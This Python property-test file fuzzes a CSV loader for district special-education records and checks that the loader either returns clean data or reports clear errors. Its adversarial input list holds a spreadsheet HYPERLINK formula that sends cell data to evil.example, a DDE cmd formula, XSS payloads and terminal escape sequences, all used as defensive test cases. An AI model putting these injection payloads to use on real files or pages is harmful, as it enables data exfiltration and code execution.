"""Property tests: whatever bytes arrive, the loader gives a clean district or a clear error.

A valid small district is mutated cell by cell, header by header, row by row and byte by byte
(wrong types, huge numbers, empty cells, unknown and duplicated columns, bad encodings, BOMs,
quotes and newlines inside cells, spreadsheet formulas, HTML, duplicated IDs, dangling
references, NUL bytes, very long cells, empty and header-only files, ragged rows). Every
outcome is either a District whose frames have the documented dtypes and satisfy the
contract's invariants, or a DistrictError whose every problem names its file (and its row and
column when a cell is at fault). Nothing else may escape.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import os
import re
import tempfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pushin_rules.data.contract import BY_NAME, FILES, Column
from pushin_rules.data.district import District
from pushin_rules.data.loader import load_district, parse_district
from pushin_rules.errors import DistrictError
from pushin_rules.models import FACTORS, GRADES, DeliveryModel, GoalDirection, ServiceType

# PUSHIN_FUZZ_EXAMPLES=2000 for a long hunt; the default keeps the suite quick.
EXAMPLES = int(os.environ.get("PUSHIN_FUZZ_EXAMPLES", "30"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

RATINGS = {
    "SV1": ["3", "2", "3", "1", "0", "0", "1", "0", "2", "1", "0"],
    "SV2": ["1", "0", "1", "3", "0", "3", "2", "2", "0", "0", "0"],
    "SV3": ["0", "0", "0", "2", "1", "3", "3", "0", "0", "0", "0"],
}

# A small valid district as tables of text: header first, then the rows.
BASE: dict[str, list[list[str]]] = {
    "schools.csv": [
        ["school_id", "name", "minutes_per_day", "days_per_week"],
        ["A", "Alder Elementary", "349", "5"],
        ["B", "Birch Middle", "380", "5"],
    ],
    "students.csv": [
        ["student_id", "name", "grade", "school_id", "classroom", "case_manager"],
        ["S1", "Ana Ruiz", "3", "A", "3-201", "Ms. Lee"],
        ["S2", "Ben Ode", "K", "A", "K-101", "Ms. Lee"],
        ["S3", "Cy Park", "7", "B", "", ""],
    ],
    "providers.csv": [
        ["provider_id", "name", "role", "weekly_capacity_minutes"],
        ["P1", "Dana Fox", "slp", "1500"],
        ["P2", "Ira Moss", "ot", "1200"],
    ],
    "services.csv": [
        list(BY_NAME["services.csv"].column_names),
        ["SV1", "S1", "speech_language", "P1", "60", "30", "1", "hybrid", "30", *RATINGS["SV1"]],
        ["SV2", "S2", "occupational_therapy", "P2", "30", "30", "1", "pull_out", ""]
        + RATINGS["SV2"],
        ["SV3", "S3", "setss", "", "180", "45", "4", "", "", *RATINGS["SV3"]],
    ],
    "goals.csv": [
        ["goal_id", "service_id", "description", "measure", "direction", "target", "target_date"],
        ["G1", "SV1", 'Says /r/ "80%" of the time, in words', "%", "increase", "80", "2027-06-15"],
        ["G2", "SV2", "Fewer prompts to start writing", "prompts", "decrease", "1", "2027-06-15"],
    ],
    "progress.csv": [
        ["goal_id", "date", "score", "setting"],
        ["G1", "2026-09-08", "30", "pull_out"],
        ["G1", "2026-09-15", "35", "push_in"],
        ["G2", "2026-09-08", "6", ""],
    ],
    "service_log.csv": [
        ["service_id", "date", "setting", "minutes", "status", "reason"],
        ["SV1", "2026-09-08", "pull_out", "30", "delivered", ""],
        ["SV1", "2026-09-08", "push_in", "30", "missed", "schedule_conflict"],
        ["SV2", "2026-09-09", "pull_out", "30", "missed", "student_absent"],
    ],
}
FILE_NAMES = [spec.name for spec in FILES]

ADVERSARIAL = [
    "",
    " ",
    "\t",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "**bold** _it_ [link](http://x)",
    '"',
    '""',
    "a,b",
    "a\nb",
    "a\r\nb",
    "a\rb",
    "1e400",
    "-1e400",
    "99999999999999999999",
    "9" * 400,
    "-0",
    "+3",
    "3.0",
    "3.000",
    "3.5",
    "0x10",
    "1_000",
    "1,5",
    "٣",  # Arabic-Indic three
    "３",  # full-width three
    "½",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "None",
    "NULL",
    "N/A",
    "k",
    "00",
    "013",
    "2027-06-15",
    "2027-02-30",
    "0000-01-01",
    "1600-01-01",
    "9999-12-31",
    "2027",
    "20270615",
    "15/06/2027",
    "2027-06-15T10:00:00+05:00",
    "2027-06-15 00:00:00",
    "x" * 5000,
    "\ufeff",
    "\u202eevil",
    "\x85",
    "\u2028",
    " push_in ",
    "PUSH_IN",
    "hybrid",
    "pull_out",
    "increase",
    "slp",
    "S1",
    "S2",
    "SV1",
    "G1",
    "A",
    "P1",
    "P9",
    "ZZ",
]


def cell_values(allow_nul: bool = True) -> st.SearchStrategy[str]:
    text = st.text(max_size=40)
    if not allow_nul:
        text = st.text(
            st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40
        )
    return st.one_of(
        st.sampled_from(ADVERSARIAL),
        text,
        st.integers(min_value=-(10**25), max_value=10**25).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    )


def to_text(table: list[list[str]], quoting: int, newline: str) -> str:
    """CSV as a spreadsheet writes it. Python's writer quotes a lone CR only when it is part of
    the line terminator, so a row holding one is written with every cell quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=quoting, lineterminator=newline)
    quote_all = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator=newline)
    for row in table:
        (quote_all if any("\r" in cell for cell in row) else writer).writerow(row)
    return out.getvalue()


def base_files() -> dict[str, bytes]:
    return {name: to_text(t, csv.QUOTE_MINIMAL, "\n").encode() for name, t in BASE.items()}


# ------------------------------------------------------------------ adversarial folders


@st.composite
def adversarial_files(draw: st.DrawFn) -> dict[str, bytes]:
    tables: dict[str, list[list[str]] | None] = copy.deepcopy(BASE)  # type: ignore[arg-type]
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        name = draw(st.sampled_from(FILE_NAMES))
        table = tables[name]
        kind = draw(
            st.sampled_from(
                [
                    "cell",
                    "cell",
                    "cell",
                    "rename_column",
                    "drop_column",
                    "add_column",
                    "duplicate_column",
                    "duplicate_row",
                    "drop_row",
                    "ragged_row",
                    "delete_file",
                    "empty_file",
                    "header_only",
                ]
            )
        )
        if table is None:
            continue
        width = len(table[0]) if table else 0
        if kind == "cell" and len(table) > 1 and width:
            row = draw(st.integers(min_value=1, max_value=len(table) - 1))
            col = draw(st.integers(min_value=0, max_value=len(table[row]) - 1))
            if col < len(table[row]):
                table[row][col] = draw(cell_values())
        elif kind == "rename_column" and width:
            table[0][draw(st.integers(0, width - 1))] = draw(cell_values())
        elif kind == "drop_column" and width:
            col = draw(st.integers(0, width - 1))
            for row in table:
                if col < len(row):
                    del row[col]
        elif kind == "add_column" and table:
            table[0].append(draw(st.sampled_from(["date_of_birth", "", "notes", "=1+1"])))
            for row in table[1:]:
                row.append(draw(cell_values()))
        elif kind == "duplicate_column" and width:
            col = draw(st.integers(0, width - 1))
            for row in table:
                if col < len(row):
                    row.append(row[col])
        elif kind == "duplicate_row" and len(table) > 1:
            table.append(list(table[draw(st.integers(1, len(table) - 1))]))
        elif kind == "drop_row" and len(table) > 1:
            del table[draw(st.integers(1, len(table) - 1))]
        elif kind == "ragged_row" and len(table) > 1:
            row = table[draw(st.integers(1, len(table) - 1))]
            if draw(st.booleans()) or not row:
                row.append(draw(cell_values()))
            else:
                row.pop()
        elif kind == "delete_file":
            tables[name] = None
        elif kind == "empty_file":
            tables[name] = []
        elif kind == "header_only":
            tables[name] = table[:1]

    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    files: dict[str, bytes] = {}
    for name, table in tables.items():
        if table is not None:
            files[name] = to_text(table, quoting, newline).encode("utf-8", "surrogatepass")

    # Byte-level damage to one file, sometimes.
    target = draw(st.sampled_from(FILE_NAMES))
    if target in files and draw(st.booleans()):
        data = files[target]
        damage = draw(
            st.sampled_from(
                [
                    "utf16",
                    "utf16le",
                    "latin1",
                    "bom",
                    "double_bom",
                    "nul",
                    "insert_bytes",
                    "truncate",
                    "cr_only",
                    "blank_lines",
                    "random_file",
                    "huge_cell",
                ]
            )
        )
        text = data.decode("utf-8", "replace")
        cut = draw(st.integers(min_value=0, max_value=len(data)))
        if damage == "utf16":
            data = text.encode("utf-16")
        elif damage == "utf16le":
            data = text.encode("utf-16-le")
        elif damage == "latin1":
            data = (text + "Jérôme Ñúñez\n").encode("latin-1", "replace")
        elif damage == "bom":
            data = b"\xef\xbb\xbf" + data
        elif damage == "double_bom":
            data = b"\xef\xbb\xbf\xef\xbb\xbf" + data
        elif damage == "nul":
            data = data[:cut] + b"\x00" + data[cut:]
        elif damage == "insert_bytes":
            data = data[:cut] + draw(st.binary(min_size=1, max_size=8)) + data[cut:]
        elif damage == "truncate":
            data = data[:cut]
        elif damage == "cr_only":
            data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r")
        elif damage == "blank_lines":
            data = data[:cut] + b"\n\n" + data[cut:]
        elif damage == "random_file":
            data = draw(st.binary(max_size=200))
        elif damage == "huge_cell":
            data = data.rstrip(b"\r\n") + b"," + b"y" * 200_000 + b"\n"
        files[target] = data
    if draw(st.booleans()):
        files["notes.txt"] = b"not part of a district"
    return files


# ------------------------------------------------------------------ what a result must be


def _line_bound(content: bytes | str) -> int:
    data = content.encode("utf-8", "replace") if isinstance(content, str) else content
    return data.count(b"\n") + data.count(b"\r") + 2


def check_error(error: DistrictError, files: dict[str, bytes]) -> None:
    assert error.problems, "a DistrictError must name at least one problem"
    message = str(error)
    assert "nothing was loaded" in message
    assert "Traceback" not in message
    for problem in error.problems:
        assert problem.file in FILE_NAMES, problem
        assert problem.expected, problem
        if problem.value is not None:  # a cell is at fault
            assert problem.row is not None and problem.row >= 2, problem
            assert problem.column, problem
        if problem.row is not None:
            assert problem.row >= 1, problem
            assert problem.column is not None, problem
            if problem.file in files:
                assert problem.row <= _line_bound(files[problem.file]), problem
        if problem.row is not None and problem.row >= 2:
            assert problem.column in BY_NAME[problem.file].column_names, problem
        assert problem.file in str(problem)


def _text_ok(series: pd.Series) -> bool:
    return series.dtype == object and all(isinstance(v, str) for v in series)


def check_district(district: District) -> None:
    for name, frame in district.frames().items():
        spec = BY_NAME[f"{name}.csv"]
        extra = ["rated"] if name == "services" else []  # the loader's flag, not a CSV column
        assert list(frame.columns) == [*spec.column_names, *extra], name
        if extra:
            assert frame["rated"].dtype == bool
        assert frame.index.equals(pd.RangeIndex(len(frame))), name
        for column in spec.columns:
            series = frame[column.name]
            where = f"{name}.{column.name}"
            if column.kind in ("id", "text", "choice"):
                assert _text_ok(series), where
                if column.kind == "id":
                    assert (series.str.len() <= 64).all(), where
                if column.required:
                    assert (series != "").all(), where
                if column.kind == "choice":
                    allowed = set(column.choices) | ({""} if not column.required else set())
                    assert set(series) <= allowed, where
            elif column.kind == "int":
                assert series.dtype == ("int8" if column.name in FACTORS else "int64"), where
                if len(series):
                    assert series.min() >= column.low and series.max() <= column.high, where
            elif column.kind == "float":
                assert series.dtype == "float64", where
                assert np.isfinite(series.to_numpy()).all(), where
            else:
                assert series.dtype == "datetime64[ns]", where
                assert series.notna().all(), where
                assert series.dt.year.between(1990, 2100).all(), where
                assert (series == series.dt.normalize()).all(), where

        if spec.key:
            assert frame[spec.key].is_unique, f"{name} ids repeat"

    schools, students = district.schools, district.students
    providers, services = district.providers, district.services
    goals, progress = district.goals, district.progress
    assert set(students["school_id"]) <= set(schools["school_id"])
    assert set(services["student_id"]) <= set(students["student_id"])
    assert set(services["provider_id"]) - {""} <= set(providers["provider_id"])
    assert set(goals["service_id"]) <= set(services["service_id"])
    assert set(progress["goal_id"]) <= set(goals["goal_id"])
    assert not progress.duplicated(["goal_id", "date"]).any()
    ordered = progress.sort_values(["goal_id", "date"], kind="stable").reset_index(drop=True)
    assert ordered.equals(progress), "progress is sorted by goal then date"

    # ratings 0-3 and minutes that add up
    for factor in FACTORS:
        assert services[factor].between(0, 3).all(), factor
    minutes = services["minutes_per_week"]
    session = services["session_minutes"]
    push_in = services["current_push_in_minutes"]
    model = services["current_model"]
    assert (session >= 1).all() and (session <= minutes).all()
    assert (push_in >= 0).all() and (push_in <= minutes).all()
    assert (push_in[model == "push_in"] == minutes[model == "push_in"]).all()
    assert (push_in[model == "pull_out"] == 0).all()
    assert (push_in[model == ""] >= 0).all()
    hybrid = model == "hybrid"
    assert ((push_in[hybrid] > 0) & (push_in[hybrid] < minutes[hybrid])).all()
    assert set(students["grade"]) <= set(GRADES)
    assert set(services["service"]) <= {s.value for s in ServiceType}
    assert set(model) <= {m.value for m in DeliveryModel} | {""}
    assert set(goals["direction"]) <= {d.value for d in GoalDirection}

    # every row also makes a valid single record (pydantic checks the same rules again)
    for sid in students["student_id"]:
        district.student(sid)
    for sid in schools["school_id"]:
        district.school(sid)
    for pid in providers["provider_id"]:
        district.provider(pid)
    for sid in services["service_id"]:
        district.service(sid)
        district.goals_of(sid)
    for gid in goals["goal_id"]:
        district.progress_of(gid)
    assert isinstance(district.fingerprint, str)
    assert district.school_week_minutes().index.tolist() == students["student_id"].tolist()


def outcome(files: dict[str, bytes]) -> District | DistrictError:
    """Parse; anything but a District or a DistrictError escapes and fails the test."""
    before = copy.deepcopy(files)
    try:
        district = parse_district(files, source="upload")
    except DistrictError as error:
        check_error(error, files)
        assert error.source == "upload"
        result: District | DistrictError = error
    else:
        check_district(district)
        result = district
    assert files == before, "the loader must not change its input"
    return result


# ------------------------------------------------------------------ properties


def test_base_district_is_valid() -> None:
    assert isinstance(outcome(base_files()), District)


@FUZZ
@given(adversarial_files())
@example({})
@example({"students.csv": b""})
@example({**base_files(), "students.csv": "\ufeff".encode() * 3})
@example({**base_files(), "services.csv": b"\x00" * 10})
@example({k: v for k, v in base_files().items() if k != "providers.csv"})
def test_any_folder_gives_a_district_or_a_clear_error(files: dict[str, bytes]) -> None:
    outcome(files)


# One cell at a time, against an independent oracle for what the column accepts.
CELLS = [
    (name, row, col)
    for name, table in BASE.items()
    for row in range(1, len(table))
    for col in range(len(table[0]))
]
_DATE = re.compile(
    r"([0-9]{4})-([0-9]{2})-([0-9]{2})"
    r"(?:[T ][0-9]{2}:[0-9]{2}(?::[0-9]{2}(?:\.[0-9]+)?)?(?:Z|[+-][0-9]{2}:?[0-9]{2})?)?"
)


def column_accepts(column: Column, value: str) -> bool:
    """Whether a cell passes its own column's check (cross-row rules aside)."""
    text = value.strip()
    if text == "":
        return not column.required
    if column.kind == "id":
        return len(text) <= 64
    if column.kind == "text":
        return True
    if column.kind == "choice":
        if column.name == "grade":
            return (text.upper().lstrip("0") or "0") in column.choices
        return text.lower() in column.choices
    if column.kind == "int":
        if not re.fullmatch(r"[+-]?[0-9]+(?:\.0*)?", text):
            return False
        number = int(text.split(".")[0])
        return column.low <= number <= column.high
    if column.kind == "float":
        try:
            return bool(np.isfinite(float(text)))
        except ValueError:
            return False
    match = _DATE.fullmatch(text)
    if not match:
        return False
    try:
        day = dt.date(*(int(g) for g in match.groups()))
    except ValueError:
        return False
    return 1990 <= day.year <= 2100


@FUZZ
@given(st.sampled_from(CELLS), cell_values(allow_nul=False))
@example(("services.csv", 1, 9), "٣")
@example(("goals.csv", 1, 6), "0000-01-01")
@example(("goals.csv", 1, 6), "2027-06-15T10:00:00+05:00")
@example(("students.csv", 1, 1), '<script>alert(1)</script>, "quoted"\nnext line')
@example(("students.csv", 1, 1), '=HYPERLINK("http://evil.example","x")')
def test_one_bad_cell_is_named_and_a_good_one_is_kept(cell: tuple, value: str) -> None:
    name, row, col = cell
    table = copy.deepcopy(BASE[name])
    table[row][col] = value
    files = base_files()
    files[name] = to_text(table, csv.QUOTE_MINIMAL, "\n").encode()
    column = BY_NAME[name].columns[BY_NAME[name].column_names.index(table[0][col])]
    result = outcome(files)
    spot = (name, row + 1, column.name)
    if not column_accepts(column, value):
        assert isinstance(result, DistrictError), f"{value!r} accepted in {spot}"
        assert spot in {(p.file, p.row, p.column) for p in result.problems}, str(result)
    if isinstance(result, District):
        frame = getattr(result, name.removesuffix(".csv"))
        key = BY_NAME[name].key
        if key:
            loaded = frame.set_index(key).loc[table[row][0].strip()] if column.name != key else None
        else:  # progress: find the point by goal and date
            loaded = None
        if loaded is not None and column.kind in ("id", "text"):
            # student-entered text comes back exactly as written (only trimmed): formulas,
            # HTML, quotes and newlines are data, never interpreted
            assert loaded[column.name] == value.strip()


def _same(one: District | DistrictError, two: District | DistrictError) -> bool:
    if isinstance(one, District) and isinstance(two, District):

        def kept(d: District) -> list[str]:  # a folder is read for district files only
            return [n for n in d.notes if "not part of a district" not in n]

        return one.fingerprint == two.fingerprint and kept(one) == kept(two)
    if isinstance(one, DistrictError) and isinstance(two, DistrictError):
        return one.problems == two.problems
    return False


@settings(FUZZ, max_examples=max(1, EXAMPLES // 3))
@given(adversarial_files())
def test_folder_and_upload_agree(files: dict[str, bytes]) -> None:
    """load_district(folder) and parse_district(upload) give the same answer."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        for name, data in files.items():
            (folder / name).write_bytes(data)
        try:
            from_folder: District | DistrictError = load_district(folder)
        except DistrictError as error:
            assert error.source == str(folder)
            from_folder = error
        else:
            check_district(from_folder)
    assert _same(from_folder, outcome(files))


# ------------------------------------------------------------------ regressions
# Each of these escaped as a raw exception, or loaded wrong data, before the fix.


def _with(name: str, data: bytes | str) -> dict[str, bytes | str]:
    files: dict[str, bytes | str] = dict(base_files())
    files[name] = data
    return files


def _problems(files: dict[str, bytes | str]) -> list[tuple]:
    with pytest.raises(DistrictError) as caught:
        parse_district(files)
    return [(p.file, p.row, p.column) for p in caught.value.problems]


STUDENTS = to_text(BASE["students.csv"], csv.QUOTE_MINIMAL, "\n")


def test_blank_lines_before_the_header_are_skipped() -> None:
    district = parse_district(_with("students.csv", "\n\n" + STUDENTS))
    assert list(district.students["student_id"]) == ["S1", "S2", "S3"]


def test_old_mac_line_endings_are_read() -> None:
    district = parse_district(_with("students.csv", STUDENTS.replace("\n", "\r").encode()))
    assert list(district.students["name"]) == ["Ana Ruiz", "Ben Ode", "Cy Park"]


def test_a_huge_header_cell_is_an_ignored_column_with_a_short_note() -> None:
    lines = STUDENTS.splitlines()
    text = "\n".join([lines[0] + "," + "h" * 200_000] + [line + ",x" for line in lines[1:]])
    district = parse_district(_with("students.csv", text))
    note = next(n for n in district.notes if n.startswith("students.csv: extra column"))
    assert len(note) < 200


def test_rows_one_cell_longer_than_the_header_are_refused_not_shifted() -> None:
    lines = STUDENTS.splitlines()
    text = "\n".join([lines[0]] + [line + ",extra" for line in lines[1:]]) + "\n"
    with pytest.raises(DistrictError, match=r"students.csv: cannot be read as CSV"):
        parse_district(_with("students.csv", text))


def test_digits_from_other_scripts_are_not_a_rating() -> None:
    table = copy.deepcopy(BASE["services.csv"])
    table[1][9] = "٣"  # would have loaded as intensity -1
    text = to_text(table, csv.QUOTE_MINIMAL, "\n")
    assert ("services.csv", 2, "intensity") in _problems(_with("services.csv", text))


@pytest.mark.parametrize(
    ("cell", "ok"),
    [
        ("2027-06-15", True),
        ("2027-06-15 00:00:00", True),
        ("2027-06-15T23:30:00+05:00", True),
        ("2027-06-15T00:00:00Z", True),
        ("0000-01-01", False),  # escaped as OutOfBoundsDatetime
        ("1600-01-01", False),
        ("2027", False),  # was read as 2027-01-01
        ("20270615", False),
        ("2027-02-30", False),
    ],
)
def test_target_dates(cell: str, ok: bool) -> None:
    table = copy.deepcopy(BASE["goals.csv"])
    table[1][6] = cell
    table[2][6] = "2027-06-15T00:00:00-08:00"  # mixed offsets escaped as ValueError
    files = _with("goals.csv", to_text(table, csv.QUOTE_MINIMAL, "\n"))
    if ok:
        district = parse_district(files)
        assert district.goals.loc[0, "target_date"] == pd.Timestamp(cell[:10])
        assert district.goals.loc[1, "target_date"] == pd.Timestamp("2027-06-15")
    else:
        assert ("goals.csv", 2, "target_date") in _problems(files)


def test_byte_order_marks_and_byte_buffers() -> None:
    data = STUDENTS.encode()
    for content in (b"\xef\xbb\xbf\xef\xbb\xbf" + data, bytearray(data), memoryview(data)):
        assert len(parse_district(_with("students.csv", content)).students) == 3
    assert _problems(_with("students.csv", 42)) == [("students.csv", None, None)]  # type: ignore[arg-type]


def test_unnamed_trailing_columns_are_ignored_not_called_duplicates() -> None:
    lines = STUDENTS.splitlines()
    text = "\n".join([lines[0] + ",,"] + [line + ",," for line in lines[1:]]) + "\n"
    assert len(parse_district(_with("students.csv", text)).students) == 3


def test_providers_derived_from_services_are_object_text() -> None:
    files = base_files()
    del files["providers.csv"]
    district = parse_district(files)  # pandas 3 had inferred its "str" dtype here
    check_district(district)
    assert list(district.providers["provider_id"]) == ["P1", "P2"]


def test_header_names_in_messages_and_notes_carry_no_control_characters() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J"
    lines = STUDENTS.splitlines()
    extra = "\n".join([lines[0] + "," + evil] + [line + ",x" for line in lines[1:]]) + "\n"
    notes = parse_district(_with("students.csv", extra)).notes
    assert all(note.isprintable() for note in notes) and any("x1b" in n for n in notes)
    twice = "\n".join([lines[0] + f",{evil},{evil}"] + [line + ",x,y" for line in lines[1:]])
    with pytest.raises(DistrictError) as caught:
        parse_district(_with("students.csv", twice + "\n"))
    assert str(caught.value).replace("\n", "").isprintable()
